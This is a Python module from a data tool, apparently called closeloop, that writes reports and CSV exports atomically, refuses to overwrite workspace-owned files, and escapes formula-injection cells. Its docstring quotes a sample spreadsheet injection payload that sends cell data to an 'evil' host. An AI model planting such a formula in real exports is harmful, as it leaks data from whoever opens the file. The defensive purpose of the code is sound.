"""Files closeloop writes for people: atomic, never over the workspace's own files, safe in spreadsheets.

Three promises every output (report HTML, rejects export, any CSV meant to be opened by
a person) keeps, in one place so no command forgets one:

* **Nothing the workspace owns is overwritten.** ``report -o warehouse.duckdb`` once
  replaced the warehouse with HTML and exited 0. :func:`owned_paths` names the files a
  workspace owns (its settings, warehouse, operational store and their journals); writing
  to one is refused.
* **Atomic.** The text goes to a temporary file beside the target, then is renamed over
  it: a crash or a full disk leaves the old file or the new one, never half of one.
* **No formula injection.** A cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab or
  carriage return) is run as a formula by Excel, LibreOffice and Google Sheets. A raw
  text such as ``=HYPERLINK("http://evil/?"&A1)`` in a rejected row would then do so on
  the reviewer's machine. Such cells get a leading ``'`` (OWASP's advice), which
  spreadsheets show as text; ``escape_formulas=False`` writes cells exactly as they are.
"""

from __future__ import annotations

import contextlib
import csv
import io
import os
import tempfile
from collections.abc import Callable, Iterable, Mapping, Sequence
from pathlib import Path
from typing import TYPE_CHECKING, Any

from closeloop.errors import InputError

if TYPE_CHECKING:
    from closeloop.settings import Settings

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def owned_paths(settings: Settings) -> set[Path]:
    """Files the workspace owns and no output may replace."""
    owned = {settings.config_path}
    with contextlib.suppress(Exception):  # a non-file warehouse URL owns no local file
        wh = settings.warehouse_path()
        owned |= {wh, Path(str(wh) + ".wal"), Path(str(wh) + ".compact")}
    prefix = "sqlite:///"
    ops = settings.resolved_ops_url()
    if ops.startswith(prefix):
        db = Path(ops[len(prefix):])
        owned |= {db, *(Path(str(db) + s) for s in ("-wal", "-shm", "-journal"))}
    return {p.resolve() for p in owned}


def check_target(path: Path, protected: Iterable[Path] = ()) -> Path:
    """The resolved target, or InputError if it is owned by the workspace or cannot be written."""
    target = path.expanduser().resolve()
    if target in {p.resolve() for p in protected}:
        raise InputError(f"{path}: refusing to write over a file the workspace owns; choose another name")
    if target.is_dir():
        raise InputError(f"{path}: is a folder; give a file name")
    if not target.parent.is_dir():
        raise InputError(f"{path}: folder {target.parent} does not exist")
    return target


def owned_near(path: Path) -> set[Path]:
    """The files owned by the workspace the target lies in (none outside a workspace).

    Why: a library call (``result.to_parquet(path)``) or ``--out`` does not say which
    workspace it came from; any workspace holding the target protects its own files.
    """
    from closeloop.errors import ConfigError
    from closeloop.settings import find_workspace, load_settings

    try:
        return owned_paths(load_settings(find_workspace(path.expanduser().resolve().parent)))
    except (ConfigError, OSError):
        return set()


def write_with(path: Path, write: Callable[[Path], Any], protected: Iterable[Path] | None = None) -> Path:
    """Write ``path`` atomically through ``write(temporary path)`` (then a rename); returns the target.

    ``protected`` defaults to the files of the workspace the target lies in (:func:`owned_near`).
    """
    target = check_target(path, owned_near(path) if protected is None else protected)
    try:
        fd, tmp = tempfile.mkstemp(prefix=f".{target.name}.", suffix=".tmp", dir=target.parent)
        os.close(fd)
    except OSError as exc:
        raise InputError(f"{path}: cannot write there ({exc.strerror})") from exc
    try:
        write(Path(tmp))
        with open(tmp, "rb+") as fh:
            os.fsync(fh.fileno())
        os.replace(tmp, target)
    except OSError as exc:
        Path(tmp).unlink(missing_ok=True)
        raise InputError(f"{path}: cannot write ({exc.strerror})") from exc
    except BaseException:
        Path(tmp).unlink(missing_ok=True)
        raise
    return target


def write_text(path: Path, text: str, protected: Iterable[Path] | None = None) -> Path:
    """Write ``text`` to ``path`` atomically (temporary file + rename); returns the path written."""
    return write_with(path, lambda tmp: tmp.write_text(text, encoding="utf-8", newline=""), protected)


def escape_cell(value: Any) -> Any:
    """A cell a spreadsheet would run as a formula, prefixed with ``'``; anything else unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Mapping[str, Any]], fieldnames: Sequence[str], escape_formulas: bool = True) -> str:
    """Rows as CSV text (RFC 4180, header first), formula-like cells escaped unless told not to."""
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=list(fieldnames), lineterminator="\r\n")
    writer.writeheader()
    for row in rows:
        writer.writerow({k: escape_cell(v) for k, v in row.items()} if escape_formulas else row)
    return buf.getvalue()


def write_csv(path: Path, rows: Iterable[Mapping[str, Any]], fieldnames: Sequence[str],
              protected: Iterable[Path] = (), escape_formulas: bool = True) -> Path:
    """Write rows to a CSV file for people: atomically, never over an owned file, formulas escaped."""
    protected = list(protected)
    check_target(path, protected)  # refuse before building the text
    return write_text(path, csv_text(rows, fieldnames, escape_formulas), protected)
